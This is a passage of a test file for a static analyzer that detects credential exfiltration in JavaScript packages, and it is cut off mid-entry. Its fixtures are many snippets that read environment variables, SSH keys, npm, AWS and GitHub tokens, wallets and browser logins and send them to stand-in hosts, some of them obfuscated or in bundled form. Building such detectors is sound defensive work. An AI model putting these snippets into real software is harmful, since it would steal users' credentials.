/** What is followed from where it is collected to where it leaves, in one module and across several, and what is not. */
import { describe, expect, test } from 'vitest';
import type { Flow } from '../../src/code/flow.ts';
import { isWhole } from '../../src/code/flow.ts';
import { eachModule } from '../../src/code/modules.ts';
import { packageOf } from '../world.ts';

type Row = readonly [name: string, code: string | Readonly<Record<string, string>>, manifest?: Record<string, unknown>];

/** `READ;` puts a file of credentials into `k`; `SEND«x»` posts `x`. */
function written(code: string): string {
  return code
    .replace('READ;', "const k=require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8');")
    .replaceAll(/SEND«(.*?)»/gs, "fetch('https://c.example/', { method: 'POST', body: $1 })");
}

function flowsIn(code: Row[1], manifest: Record<string, unknown> = {}): string[] {
  const given = typeof code === 'string' ? { 'index.js': code } : code;
  const files = Object.fromEntries(Object.entries(given).map(([path, text]) => [path, written(text)]));
  const pkg = packageOf({ name: '', files, manifest: { main: 'index.js', ...manifest } });
  const { value, gaps } = eachModule(pkg, {
    root: true,
    select: () => true,
    look: ({ code: linked, flows }) =>
      flows.flatMap((flow) => inWords(flow, isWhole(linked, flow.steps, flow.source.under))),
  });
  expect(gaps).toEqual([]);
  return value.flat();
}

function inWords({ source, sink }: Flow, whole: boolean): string {
  return `${whole ? '' : 'part of '}${source.kind} to ${sink.kind}`;
}

/** A command's output or a file's content may be a property of what the call gives. */
const LEFT = /^(?:environment|(?:part of )?(?:secret file|secret command|clipboard)) to network$/;
const LEFT_WHOLE = /^(?:environment|secret file|secret command|clipboard) to network$/;

const SOURCES: readonly Row[] = [
  ['whole env', 'SEND«JSON.stringify(process.env)»'],
  ['env spread', 'SEND«JSON.stringify({...process.env})»'],
  ['env entries', "const o=[]; for (const [k,v] of Object.entries(process.env)) o.push(k+'='+v);SEND«o.join('\\n')»"],
  ['env for in', "let s=''; for (const k in process.env) s += k+'='+process.env[k]; SEND«s»"],
  ['env keys map', 'const d=Object.keys(process.env).map(k=>k+process.env[k]).join();SEND«d»'],
  ['env keys forEach', 'const d={};Object.keys(process.env).forEach(k=>{d[k]=process.env[k]});SEND«JSON.stringify(d)»'],
  [
    'env filter entries',
    'const d=Object.fromEntries(Object.entries(process.env).filter(([k])=>/TOKEN|KEY/.test(k)));SEND«JSON.stringify(d)»',
  ],
  ['process alias', 'const p=process; const {env:e}=p;SEND«JSON.stringify(e)»'],
  ['globalThis computed', "const e=globalThis['pro'+'cess']['en'+'v'];SEND«JSON.stringify(e)»"],
  ['require process', "const {env}=require('node:process');SEND«JSON.stringify(env)»"],
  ['import process', "import process from 'node:process';SEND«JSON.stringify(process.env)»"],
  ['import {env}', "import {env} from 'process';SEND«JSON.stringify(env)»"],
  ['Reflect.ownKeys', 'const d=Reflect.ownKeys(process.env).map(k=>process.env[k]);SEND«d.join()»'],
  ['env dump via child env', "const o=require('child_process').execSync('env').toString();SEND«o»"],
  ['printenv', "const o=require('child_process').execSync('printenv');SEND«o»"],
  ['set on windows', "const o=require('child_process').execSync('cmd /c set');SEND«o»"],
  ['/proc/self/environ', "const o=require('fs').readFileSync('/proc/self/environ','utf8');SEND«o»"],
  [
    '/proc/pid/mem',
    "const fs=require('fs');const pid=1;const fd=fs.openSync(`/proc/${pid}/mem`,'r');const b=Buffer.alloc(9);fs.readSync(fd,b,0,9,0);SEND«b»",
  ],
  [
    'ssh key',
    "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'));SEND«k»",
  ],
  [
    'ssh readdir all',
    "const fs=require('fs');const d=process.env.HOME+'/.ssh';const all=fs.readdirSync(d).map(f=>fs.readFileSync(d+'/'+f,'utf8'));SEND«all.join()»",
  ],
  ['readFile cb', "const fs=require('fs');fs.readFile(process.env.HOME+'/.npmrc','utf8',(e,d)=>{SEND«d»})"],
  [
    'readFile promise',
    "const fs=require('fs/promises');(async()=>{const d=await fs.readFile(process.env.HOME+'/.aws/credentials','utf8');await SEND«d»})()",
  ],
  [
    'readFile then',
    "import {readFile} from 'fs/promises';readFile(process.env.HOME+'/.aws/credentials','utf8').then(d=>{SEND«d»})",
  ],
  [
    'promisify',
    "const {promisify}=require('util');const r=promisify(require('fs').readFile);r(process.env.HOME+'/.netrc').then(d=>SEND«d»)",
  ],
  [
    'list of files',
    "const fs=require('fs'),os=require('os');const L=['.ssh/id_rsa','.npmrc','.aws/credentials'];const r={};for(const f of L){try{r[f]=fs.readFileSync(os.homedir()+'/'+f,'utf8')}catch{}};SEND«JSON.stringify(r)»",
  ],
  [
    'stream pipe',
    "const fs=require('fs'),https=require('https');const q=https.request('https://c.example');fs.createReadStream(process.env.HOME+'/.npmrc').pipe(q)",
  ],
  ['.env file', "const d=require('fs').readFileSync('.env','utf8');SEND«d»"],
  ['.env resolve', "const d=require('fs').readFileSync(require('path').join(process.cwd(),'.env'),'utf8');SEND«d»"],
  ['clipboard pbpaste', "const c=require('child_process').execSync('pbpaste').toString();SEND«c»"],
  ['clipboardy', "import clipboard from 'clipboardy';SEND«clipboard.readSync()»"],
  ['xclip', "const c=require('child_process').execSync('xclip -o').toString();SEND«c»"],
  ['gh auth token', "const c=require('child_process').execSync('gh auth token').toString();SEND«c»"],
  [
    'gh spawn array',
    "const {spawnSync}=require('child_process');const c=spawnSync('gh',['auth','token']).stdout.toString();SEND«c»",
  ],
  ['gh exec cb', "require('child_process').exec('gh auth token',(e,out)=>{SEND«out»})"],
  [
    'gh promisified',
    "const exec=require('util').promisify(require('child_process').exec);(async()=>{const {stdout}=await exec('gh auth token');SEND«stdout»})()",
  ],
  [
    'gh spawn on data',
    "const c=require('child_process').spawn('gh',['auth','token']);c.stdout.on('data',d=>{SEND«d»})",
  ],
  ['security keychain', "const c=require('child_process').execSync('security find-generic-password -wa x');SEND«c»"],
  ['secret-tool', "const c=require('child_process').execSync('secret-tool lookup a b');SEND«c»"],
  ['keytar', "const k=require('keytar');k.findCredentials('x').then(c=>SEND«JSON.stringify(c)»)"],
  ['cat ssh', "const c=require('child_process').execSync('cat ~/.ssh/id_rsa');SEND«c»"],
  ['cat history', "const c=require('child_process').execSync('cat ~/.bash_history | tail');SEND«c»"],
  ['history file', "const c=require('fs').readFileSync(process.env.HOME+'/.zsh_history');SEND«c»"],
  ['wallet', "const c=require('fs').readFileSync(process.env.HOME+'/.config/solana/id.json');SEND«c»"],
  [
    'mcp config',
    "const c=require('fs').readFileSync(require('path').join(require('os').homedir(),'.cursor','mcp.json'));SEND«c»",
  ],
  [
    'vscode mcp',
    "const c=require('fs').readFileSync(require('path').join(require('os').homedir(),'.config/Code/User/mcp.json'));SEND«c»",
  ],
  [
    'npm whoami/token',
    "const c=require('child_process').execSync('npm config get //registry.npmjs.org/:_authToken');SEND«c»",
  ],
];

const SINKS: readonly Row[] = [
  ['gzip cb', "READ;require('zlib').gzip(k,(e,z)=>fetch('https://c.example',{method:'POST',body:z}))"],
  [
    'gzip promisify',
    "READ;const g=require('util').promisify(require('zlib').gzip);(async()=>{fetch('https://c.example',{body:await g(k)})})()",
  ],
  [
    'cipher',
    "READ;const c=require('crypto').createCipheriv('aes-256-gcm',a,b);const e=Buffer.concat([c.update(k),c.final()]);fetch('https://c.example',{body:e.toString('base64')})",
  ],
  [
    'cipher concat strings',
    "READ;const c=require('crypto').createCipheriv('aes-256-gcm',a,b);let e=c.update(k,'utf8','hex');e+=c.final('hex');fetch('https://c.example',{body:e})",
  ],
  ['publicEncrypt', "READ;fetch('https://c.example',{body:require('crypto').publicEncrypt(pk,Buffer.from(k))})"],
  [
    'xor loop',
    "READ;let o='';for(let i=0;i<k.length;i++)o+=String.fromCharCode(k.charCodeAt(i)^7);fetch('https://c.example/?'+o)",
  ],
  ['hex map', "READ;const h=[...k].map(c=>c.charCodeAt(0).toString(16)).join('');fetch('https://c.example/'+h)"],
  ['template', 'READ;fetch(`https://c.example/${encodeURIComponent(k)}`)'],
  ['URLSearchParams append', "READ;const p=new URLSearchParams();p.append('d',k);fetch('https://c.example',{body:p})"],
  ['FormData', "READ;const f=new FormData();f.append('a',new Blob([k]));fetch('https://c.example',{body:f})"],
  ['TextEncoder', "READ;fetch('https://c.example',{body:new TextEncoder().encode(k)})"],
  ['array buffer set', "READ;const u=new Uint8Array(9);u.set(Buffer.from(k));fetch('https://c.example',{body:u})"],
  ['Buffer.alloc write', "READ;const b=Buffer.alloc(999);b.write(k);fetch('https://c.example',{body:b})"],
  ['Buffer.copy', "READ;const b=Buffer.alloc(999);Buffer.from(k).copy(b);fetch('https://c.example',{body:b})"],
  [
    'chunks',
    "READ;for(const c of k.match(/.{1,40}/g))require('dns').lookup(Buffer.from(c).toString('hex')+'.c.example',()=>{})",
  ],
  ['chunk slice loop', "READ;for(let i=0;i<k.length;i+=40)require('dns').resolve(k.slice(i,i+40)+'.c.example',()=>{})"],
  ['https.request write', "READ;const q=require('https').request({host:'c.example',method:'POST'});q.write(k);q.end()"],
  ['https.request end', "READ;const q=require('https').request({host:'c.example'},r=>{});q.end(k)"],
  ['https.get path', "READ;require('https').get({host:'c.example',path:'/'+k})"],
  ['options mutated', "READ;const o={host:'c.example'};o.path='/'+k;require('https').get(o)"],
  ['headers', "READ;require('https').request({host:'c.example',headers:{'x-a':k}}).end()"],
  ['setHeader', "READ;const q=require('https').request({host:'c.example'});q.setHeader('x',k);q.end()"],
  ['require(var)', "READ;const m='https';const h=require(m);const r=h.request({});r.write(k)"],
  [
    'ternary module',
    "READ;const h=u.startsWith('https')?require('https'):require('http');const r=h.request(u);r.write(k);r.end()",
  ],
  ['map of modules', "READ;const h={http:require('http'),https:require('https')}[p];const r=h.request(u);r.end(k)"],
  ['follow-redirects', "READ;const {https}=require('follow-redirects');const r=https.request({});r.write(k)"],
  ['undici.request', "READ;import('undici').then(({request})=>request('https://c.example',{body:k}))"],
  [
    'undici Client',
    "READ;const {Client}=require('undici');const c=new Client('https://c.example');c.request({body:k})",
  ],
  [
    'undici dispatch',
    "READ;const {Client}=require('undici');const c=new Client('https://c.example');c.dispatch({body:k},{})",
  ],
  ['axios.post', "READ;require('axios').post('https://c.example',{k})"],
  [
    'axios default import',
    "import axios from 'axios';import fs from 'fs';const k=fs.readFileSync(process.env.HOME+'/.npmrc');axios({url:'https://c.example',data:k})",
  ],
  ['axios instance', "READ;const a=require('axios').create({baseURL:'https://c.example'});a.post('/x',k)"],
  ['axios dynamic method', "READ;const a=require('axios');a['po'+'st']('https://c.example',k)"],
  ['node-fetch', "READ;require('node-fetch')('https://c.example',{body:k})"],
  ['got.post', "READ;require('got').post('https://c.example',{json:{k}})"],
  ['needle', "READ;require('needle')('post','https://c.example',k)"],
  ['superagent', "READ;require('superagent').post('https://c.example').send({k}).end()"],
  ['superagent set', "READ;require('superagent').post('https://c.example').set('a','b').send({k})"],
  ['request', "READ;require('request').post({url:'https://c.example',form:{k}})"],
  ['ws send', "READ;const W=require('ws');const w=new W('wss://c.example');w.on('open',()=>w.send(k))"],
  ['ws global', "READ;const w=new WebSocket('wss://c.example');w.onopen=()=>w.send(k)"],
  [
    'ws named',
    "import {WebSocket} from 'ws';import fs from 'fs';const k=fs.readFileSync(process.env.HOME+'/.npmrc');const w=new WebSocket('wss://c.example');w.addEventListener('open',()=>w.send(k))",
  ],
  ['socket.io', "READ;const io=require('socket.io-client');const s=io('https://c.example');s.emit('x',k)"],
  ['socket.io named', "READ;const {io}=require('socket.io-client');const s=io('https://c.example');s.emit('x',k)"],
  ['net.connect', "READ;const s=require('net').connect(4,'192.0.2.1',()=>{s.write(k)})"],
  ['net.Socket connect', "READ;const s=new (require('net').Socket)();s.connect(4,'192.0.2.1',()=>s.write(k))"],
  ['net pipe', "READ;const s=require('net').connect(4,'192.0.2.1');s.on('connect',()=>s.end(k))"],
  ['tls', "READ;const s=require('tls').connect(443,'c.example',()=>s.write(k))"],
  [
    'http2',
    "READ;const c=require('http2').connect('https://c.example');const r=c.request({':path':'/'});r.write(k);r.end()",
  ],
  ['dgram', "READ;const s=require('dgram').createSocket('udp4');s.send(k,1,'192.0.2.1')"],
  ['dns.promises', "READ;require('dns').promises.resolveTxt(k+'.c.example')"],
  [
    'dns Resolver',
    "READ;const {Resolver}=require('dns');const r=new Resolver();r.setServers(['192.0.2.1']);r.resolve4(k+'.c.example',()=>{})",
  ],
  ['curl exec', "READ;require('child_process').exec(`curl -d '${k}' https://c.example`)"],
  [
    'curl spawn stdin',
    "READ;const c=require('child_process').spawn('curl',['-d','@-','https://c.example']);c.stdin.write(k);c.stdin.end()",
  ],
  ['execSync input', "READ;require('child_process').execSync('curl -d @- https://c.example',{input:k})"],
  ['curl file', "require('child_process').exec('curl -F f=@$HOME/.npmrc https://c.example')"],
  [
    'curl file tilde spawn',
    "require('child_process').spawn('curl',['-T',process.env.HOME+'/.npmrc','https://c.example'])",
  ],
  [
    'one variable of a child’s that is all of ours',
    "require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env:{...process.env,ALL:JSON.stringify(process.env)}})",
  ],
  [
    'the same, joined, and put in later',
    "const env={...process.env};env.ALL=Object.entries(process.env).join();require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env})",
  ],
  [
    'what a client of a service reads',
    "require('child_process').execSync('gh gist create -',{input:JSON.stringify(process.env)})",
  ],
  ['shell env pipe', "require('child_process').exec('env | curl -d @- https://c.example')"],
  ['shell $(cat)', "require('child_process').execSync('curl https://c.example -d \"$(cat ~/.ssh/id_rsa | base64)\"')"],
  ['nslookup', "READ;require('child_process').exec('nslookup '+k+'.c.example')"],
  [
    'child env node -e',
    "require('child_process').spawn('node',['-e','fetch(\"https://c.example\",{method:\"POST\",body:JSON.stringify(process.env)})'])",
  ],
  ['sendBeacon', "READ;navigator.sendBeacon('https://c.example',k)"],
  ['XHR', "READ;const x=new XMLHttpRequest();x.open('POST','https://c.example');x.send(k)"],
  ['nodemailer', "READ;require('nodemailer').createTransport({}).sendMail({to:'a@b.example',text:k})"],
  [
    'octokit',
    "READ;const {Octokit}=require('@octokit/rest');const o=new Octokit({auth:t});o.repos.createOrUpdateFileContents({content:k})",
  ],
  ['discord webhook', "READ;const {WebhookClient}=require('discord.js');new WebhookClient({url:u}).send(k)"],
  [
    'aws s3',
    "READ;const {S3Client,PutObjectCommand}=require('@aws-sdk/client-s3');new S3Client({}).send(new PutObjectCommand({Body:k}))",
  ],
  ['telegram', "READ;const T=require('node-telegram-bot-api');new T(tok).sendMessage(1,k)"],
  [
    'form-data submit',
    "READ;const F=require('form-data');const f=new F();f.append('a',k);f.submit('https://c.example')",
  ],
  [
    'pipe to request',
    "READ;const {Readable}=require('stream');Readable.from([k]).pipe(require('https').request('https://c.example'))",
  ],
  [
    'pipeline',
    "READ;const {pipeline}=require('stream');pipeline(require('fs').createReadStream(process.env.HOME+'/.npmrc'),require('https').request('https://c.example'),()=>{})",
  ],
  ['Bun', "const k=await Bun.file(process.env.HOME+'/.npmrc').text();fetch('https://c.example',{body:k})"],
  ['Deno', "const k=await Deno.readTextFile(Deno.env.get('HOME')+'/.npmrc');fetch('https://c.example',{body:k})"],
];

/** As TypeScript writes it into a file that it compiles to ES2015. */
const AWAITER =
  'var __awaiter=(this&&this.__awaiter)||function(t,a,P,g){function ad(v){return v instanceof P?v:new P(function(r){r(v)})}return new (P||(P=Promise))(function(res,rej){function f(v){try{step(g.next(v))}catch(e){rej(e)}}function step(r){r.done?res(r.value):ad(r.value).then(f)}step((g=g.apply(t,a||[])).next())})};';
const FIELDS =
  'var __classPrivateFieldGet=(this&&this.__classPrivateFieldGet)||function(o,s,k,f){return k==="m"?f:k==="a"?f.call(o):f?f.value:s.get(o)};var __classPrivateFieldSet=(this&&this.__classPrivateFieldSet)||function(o,s,v,k,f){return k==="a"?f.call(o,v):f?f.value=v:s.set(o,v),v};';

/** Written down, as compilers write newer syntax for older machines. */
const COMPILED: readonly Row[] = [
  [
    'an async function',
    `${AWAITER}function rd(){return __awaiter(this,void 0,void 0,function*(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')})} function go(){return __awaiter(this,void 0,void 0,function*(){const d=yield rd();SEND«d»})} go()`,
  ],
  [
    'an async function of tslib',
    "const tslib_1=require('tslib');function rd(){return (0,tslib_1.__awaiter)(this,void 0,void 0,function*(){const k=yield x();return process.env})} rd().then(d=>{SEND«JSON.stringify(d)»})",
  ],
  [
    'an async method, which knows what it is of',
    `${AWAITER}class C{constructor(){this.d=process.env} go(){return __awaiter(this,void 0,void 0,function*(){SEND«JSON.stringify(this.d)»})}} new C().go()`,
  ],
  [
    'an async function of esbuild',
    'var __async=(t,a,g)=>new Promise((r,j)=>{var f=v=>{try{step(g.next(v))}catch(e){j(e)}};var step=x=>x.done?r(x.value):Promise.resolve(x.value).then(f);step((g=g.apply(t,a)).next())});const rd=()=>__async(null,null,function*(){return process.env});rd().then(d=>{SEND«JSON.stringify(d)»})',
  ],
  [
    'an async function of Babel',
    "function _asyncToGenerator(fn){return function(){var self=this,args=arguments;return new Promise(function(r,j){var gen=fn.apply(self,args);function n(v){a(gen,r,j,n,t,'next',v)}function t(e){a(gen,r,j,n,t,'throw',e)}n(void 0)})}}function rd(){return _rd.apply(this,arguments)}function _rd(){_rd=_asyncToGenerator(function*(){return process.env});return _rd.apply(this,arguments)}rd().then(d=>{SEND«JSON.stringify(d)»})",
  ],
  [
    'a private field',
    `${FIELDS}var _C_l;class C{constructor(){_C_l.set(this,[]);__classPrivateFieldGet(this,_C_l,"f").push(process.env)} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_l,"f"))»}} _C_l=new WeakMap();new C().go()`,
  ],
  [
    'a private field that is written',
    `${FIELDS}var _C_l;class C{constructor(){_C_l.set(this,void 0);__classPrivateFieldSet(this,_C_l,process.env,"f")} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_l,"f"))»}} _C_l=new WeakMap();new C().go()`,
  ],
  [
    'a private method',
    `${FIELDS}var _C_i,_C_up;class C{constructor(){_C_i.add(this)} go(){__classPrivateFieldGet(this,_C_i,"m",_C_up).call(this,process.env)}} _C_i=new WeakSet(),_C_up=function _C_up(d){SEND«JSON.stringify(d)»};new C().go()`,
  ],
  [
    'a private field of esbuild',
    'var __privateGet=(o,m,g)=>g?g.call(o):m.get(o),__privateAdd=(o,m,v)=>m.set(o,v);var _d;class C{constructor(){__privateAdd(this,_d,process.env)} go(){SEND«JSON.stringify(__privateGet(this,_d))»}} _d=new WeakMap();new C().go()',
  ],
  [
    'a private field of Babel',
    'var _d=new WeakMap();class C{constructor(){_classPrivateFieldInitSpec(this,_d,{writable:true,value:process.env})} go(){SEND«JSON.stringify(_classPrivateFieldGet(this,_d))»}} new C().go()',
  ],
  [
    'a private field of a later Babel',
    'var _d=new WeakMap();class C{constructor(){_classPrivateFieldInitSpec(this,_d,process.env)} go(){SEND«JSON.stringify(_classPrivateFieldGet2(_d,this))»}} new C().go()',
  ],
  [
    'a spread object',
    'var __assign=(this&&this.__assign)||function(){__assign=Object.assign||function(t){return t};return __assign.apply(this,arguments)};SEND«JSON.stringify(__assign(__assign({},process.env),{a:1}))»',
  ],
  [
    'an async function, as ES5 has it',
    "function rd(){return __awaiter(this,void 0,void 0,function(){return __generator(this,function(_a){switch(_a.label){case 0:return [4,x()];case 1:_a.sent();return [2,process.env]}})})} function go(){return __awaiter(this,void 0,void 0,function(){var d;return __generator(this,function(_a){switch(_a.label){case 0:return [4,rd()];case 1:d=_a.sent();return [4,fetch('x',{body:JSON.stringify(d)})];case 2:_a.sent();return [2]}})})} go()",
  ],
  [
    'a module that a compiler wraps',
    "const tslib_1=require('tslib');const fs=tslib_1.__importStar(require('fs'));SEND«fs.readFileSync(process.env.HOME+'/.npmrc')»",
  ],
  [
    'a module that a helper of Babel wraps',
    "var _i=require('@babel/runtime/helpers/interopRequireDefault');var _fs=_i(require('fs'));SEND«_fs.default.readFileSync(process.env.HOME+'/.npmrc')»",
  ],
  [
    'a module that a helper wraps whose name is gone',
    "var c=Object.create,d=Object.defineProperty,g=Object.getPrototypeOf;var h=(e,r)=>{for(let k of Object.getOwnPropertyNames(r))d(e,k,{get:()=>r[k]});return e};var i=(e,t,r)=>(r=e!=null?c(g(e)):{},h(t||!e||!e.__esModule?d(r,'default',{value:e,enumerable:!0}):r,e));var f=i(require('fs'));SEND«f.readFileSync(process.env.HOME+'/.npmrc')»",
  ],
  [
    'an async function of Babel, for older machines',
    'function rd(){return _rd.apply(this,arguments)}function _rd(){_rd=_asyncToGenerator(_regeneratorRuntime().mark(function _callee(){return _regeneratorRuntime().wrap(function _callee$(_context){while(1)switch(_context.prev=_context.next){case 0:_context.next=2;return x();case 2:return _context.abrupt("return",process.env);case 3:case "end":return _context.stop()}},_callee)}));return _rd.apply(this,arguments)}function go(){return _go.apply(this,arguments)}function _go(){_go=_asyncToGenerator(_regeneratorRuntime().mark(function _callee2(){var d;return _regeneratorRuntime().wrap(function _callee2$(_context2){while(1)switch(_context2.prev=_context2.next){case 0:_context2.next=2;return rd();case 2:d=_context2.sent;_context2.next=5;return fetch("x",{body:JSON.stringify(d)});case 5:case "end":return _context2.stop()}},_callee2)}));return _go.apply(this,arguments)}go()',
  ],
  [
    'an async function of ES5 that waits for what it made of what it waited for',
    "function go(){return __awaiter(this,void 0,void 0,function(){var d;return __generator(this,function(_a){switch(_a.label){case 0:return [4,x(process.env)];case 1:return [4,fetch('x',{body:JSON.stringify(_a.sent())})];case 2:return [4,_a.sent().json()];case 3:d=_a.sent();return [2,d]}})})} function x(e){return e} go()",
  ],
  [
    'an async function of Babel that waits for what it made of what it waited for',
    'function go(){return _go.apply(this,arguments)}function _go(){_go=_asyncToGenerator(_regeneratorRuntime().mark(function _callee2(){return _regeneratorRuntime().wrap(function _callee2$(_c){while(1)switch(_c.prev=_c.next){case 0:_c.next=2;return Promise.resolve(process.env);case 2:_c.next=5;return fetch("x",{body:JSON.stringify(_c.sent)});case 5:_c.next=7;return _c.sent.json();case 7:return _c.abrupt("return",_c.sent);case 8:case "end":return _c.stop()}},_callee2)}));return _go.apply(this,arguments)}go()',
  ],
  ['a spread list', 'SEND«JSON.stringify(__spreadArray(__spreadArray([],[1],true),Object.entries(process.env),true))»'],
];

/** Put in one place and taken from another, without either naming the other. */
const CHANNELS: readonly Row[] = [
  [
    'modules in a table, as webpack has them',
    '(()=>{var e={896:e=>{"use strict";e.exports=require("fs")},692:e=>{e.exports=require("https")},11:(e,t,r)=>{const n=r(896);t.grab=()=>n.readFileSync(process.env.HOME+"/.npmrc")},12:(e,t,r)=>{const n=r(692);t.put=e=>{const t=n.request({hostname:"c.example",method:"POST"});t.write(e),t.end()}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(11),o=r(12);o.put(t.grab())})()})();',
  ],
  [
    'modules with getters, as webpack has them',
    '(()=>{var e={11:(e,t,r)=>{r.d(t,{A:()=>n});const n=()=>process.env}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n].call(s.exports,s,s.exports,r),s.exports}(()=>{var o=r(11);SEND«JSON.stringify((0,o.A)())»})()})();',
  ],
  [
    'modules around a function, as esbuild has them',
    'var n=Object.getOwnPropertyNames;var __commonJS=(cb,mod)=>function __require(){return mod||(0,cb[n(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};var require_a=__commonJS({"a.js"(exports,module){module.exports.grab=()=>process.env}});var require_b=__commonJS({"b.js"(exports,module){module.exports=function(d){SEND«JSON.stringify(d)»}}});var {grab}=require_a();var send=require_b();send(grab())',
  ],
  [
    'a function that loads',
    "const load=(n)=>require(n);const h=load('https');h.request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'a function that loads by the loader behind',
    "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'strings of a list that a count turns',
    "const a=['/.npmrc','readFileSync','fs','homedir','os'];(function(l,n){while(--n)l.push(l.shift())})(a,3);const s=(i)=>a[(i+1)%5];const k=require(s(4))[s(3)](require(s(1))[s(0)]()+s(2));SEND«k»",
  ],
  [
    'an instance held by name',
    'class R{report(d){SEND«JSON.stringify(d)»}} const c={r:new R(),env:()=>({...process.env})};c.r.report(c.env())',
  ],
  [
    'a class that is gone through',
    "class S{*[Symbol.iterator](){for(const p of ['.netrc'])yield require('fs').readFileSync(process.env.HOME+'/'+p)}} const go=(s)=>SEND«JSON.stringify([...s])»;go(new S())",
  ],
  [
    'a minified bundle that asks for marks',
    'var l=Object.defineProperty;var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var v=(e,t)=>e;var u=(e,t,r)=>(r={},v(t||!e||!e.__esModule?l(r,"default",{value:e}):r,e));var d=c((E,p)=>{p.exports.collect=()=>({...process.env})});var S=u(d());SEND«JSON.stringify((0,S.collect)())»',
  ],
  [
    'a method that is bound and listens',
    "const {EventEmitter}=require('events');class C extends EventEmitter{go(){this.emit('snapshot',{...process.env})}} class U{attach(s){s.on('snapshot',this.push.bind(this))} push(s){SEND«JSON.stringify(s)»}} const c=new C();new U().attach(c);c.go()",
  ],
  [
    'a command in a tag',
    "import {$} from 'execa';const {stdout}=await $`gh auth token`;SEND«stdout»",
    { type: 'module' },
  ],
  [
    'what a class above is made with, out of an enumeration',
    "var K;(function(K){K['A']='.npmrc';K['B']='.netrc'})(K||(K={}));class P{constructor(k){this.k=k}} class F extends P{read(){return require('fs').readFileSync(require('os').homedir()+'/'+this.k)}} for(const k of Object.values(K))SEND«new F(k).read()»",
  ],
  [
    'what is handed to the class above',
    'class P{constructor(d){this.d=d}} class F extends P{constructor(d){super(d)} go(){SEND«JSON.stringify(this.d)»}} new F(process.env).go()',
  ],
  ['a setter', 'const o={set sink(v){SEND«JSON.stringify(v)»}};o.sink=process.env'],
  [
    'names that are symbols',
    "const k=Symbol('k'),s=Symbol('s');class C{get [k](){return process.env} [s](v){SEND«JSON.stringify(v)»}} const c=new C();c[s](c[k])",
  ],
  ['a tag', 'const send=(t,...v)=>SEND«v.join()»;send`${JSON.stringify(process.env)}`'],
  [
    'modules that are loaded together',
    "Promise.all(['fs','os'].map((n)=>import(n))).then(([fs,os])=>SEND«fs.readFileSync(os.homedir()+'/.npmrc')»)",
  ],
  [
    'what is assigned to an instance all at once',
    {
      'index.js':
        "import * as vault from './vault.js';class R{constructor({vault}){Object.assign(this,{vault})} async run(){SEND«await this.vault.load()»}} new R({vault}).run()",
      'vault.js':
        "import {readFileSync} from 'fs';import {homedir} from 'os';export const load=()=>readFileSync(homedir()+'/.netrc')",
    },
    { type: 'module' },
  ],
  [
    'a function of another module that packs',
    {
      'index.js': "const {pack}=require('./util');SEND«pack(process.env)»",
      'util.js': "exports.pack=(o)=>Buffer.from(JSON.stringify(o)).toString('base64')",
    },
  ],
  [
    'functions of other modules that pack, behind each other',
    {
      'index.js': "import {wrap} from './a.js';SEND«wrap('x',process.env)»",
      'a.js': "import {pack} from './b.js';export const wrap=(name,o)=>({name,body:pack(o)})",
      'b.js':
        "import {gzipSync} from 'zlib';export function pack(o){const t=JSON.stringify(o);return gzipSync(t).toString('base64')}",
    },
    { type: 'module' },
  ],
  [
    'a place that another module names',
    {
      'index.js': "const {F}=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+F)»",
      'c.js': "exports.F='/'+['.npm','rc'].join('')",
    },
  ],
  [
    'modules that another one passes on',
    {
      'index.js':
        "const {fs,os,https}=require('./deps');https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
      'deps.js': "exports.fs=require('fs');exports.os=require('os');exports.https=require('https')",
    },
  ],
  [
    'modules that another one passes on by name',
    {
      'index.js':
        "import {fs,os,https} from './deps.js';https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
      'deps.js':
        "export {default as fs} from 'node:fs';export * as os from 'node:os';import https from 'node:https';export {https}",
    },
    { type: 'module' },
  ],
  [
    'a database of a browser',
    "const {DatabaseSync}=require('node:sqlite');const db=new DatabaseSync(require('os').homedir()+'/.config/google-chrome/Default/Login Data');SEND«JSON.stringify(db.prepare('select * from logins').all())»",
  ],
  [
    'lines of a file',
    "const rl=require('readline').createInterface({input:require('fs').createReadStream(process.env.HOME+'/.npmrc')});rl.on('line',(l)=>{SEND«l»})",
  ],
  [
    'lines of a file by its handle',
    "import {open} from 'node:fs/promises';const h=await open(process.env.HOME+'/.npmrc');for await(const l of h.readLines())SEND«l»",
    { type: 'module' },
  ],
  [
    'what is found in the memory of another process',
    "const fs=require('fs');const p=process.argv[2];const fd=fs.openSync(['','proc',p,'mem'].join('/'),'r');const out=[];const b=Buffer.alloc(9);fs.readSync(fd,b,0,9,0);out.push(...b.toString('latin1').matchAll(/x/g));SEND«out.join()»",
  ],
  ['what a report tells of the environment', 'SEND«JSON.stringify(process.report.getReport())»'],
  [
    'places that another module lists',
    {
      'index.js':
        "import {FILES} from './all.js';import fs from 'fs';import os from 'os';for(const f of FILES)SEND«fs.readFileSync(os.homedir()+f)»",
      'all.js': "export * from './c.js'",
      'c.js': "export const FILES=['/.npmrc','/.ssh/id_rsa']",
    },
    { type: 'module' },
  ],
  [
    'places that a file of settings lists',
    {
      'index.js':
        "const {paths}=require('./c.json');const fs=require('fs');for(const f of paths.all)SEND«fs.readFileSync(require('os').homedir()+f)»",
      'c.json': '{"paths":{"all":["/.npmrc"]}}',
    },
  ],
  [
    'a service that a constructor is given',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{constructor(t){this.t=t} go(){this.t.send(process.env)}} new C(new T()).go()",
  ],
  [
    'what is put into an object that begins empty',
